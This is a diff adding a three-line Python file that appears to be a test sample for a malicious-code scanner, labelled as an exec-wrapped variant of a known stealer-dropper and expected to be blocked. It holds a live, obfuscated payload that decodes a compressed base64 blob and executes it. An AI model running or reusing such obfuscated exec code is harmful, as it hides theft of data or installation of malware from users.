@@ -1,0 +1,3 @@
+# expect: BLOCKED category: known_threat variant-of: risky/known_threat/stealer_dropper_line.py technique: exec-wrapped
+import base64, zlib
+exec(zlib.decompress(base64.b64decode('eJxVUNFqxCAQfM9XSPpQhTYYE5NcoQ/9kqDuprF4GtTj7vr1NRcK7cLiuDM7gz6RD5IyKofxORHrU1auYOKsR0KdLRwQfT/uq0or20UWkIS8YrzaVFAE61W8ExMAm8qetxAz+UrBV1UFuBAXFMwJc7b+M9FN5ZW9VaTU1eaVhA39Y/hC0BeLInqvL3l5nWpGVCqpHhweC3tFzJfoH/7N7kwPASth83yEzzOt9cW6Ephq1uANDf3LfTuryxzQhPMWMSWq7xlTs8RwXvFG63E6GaONEWAmsQgl2/3UAx8GoQGFUShOAnppOCiJPQglWsMlwCAmOZlTYbkQeoQRRMe7oeuAl+67/oHHbgGuJtmWRsGNkD1w3vFRt+2kasZYtUXrM/3/dfUvavbXF9kPPLePeg==')))
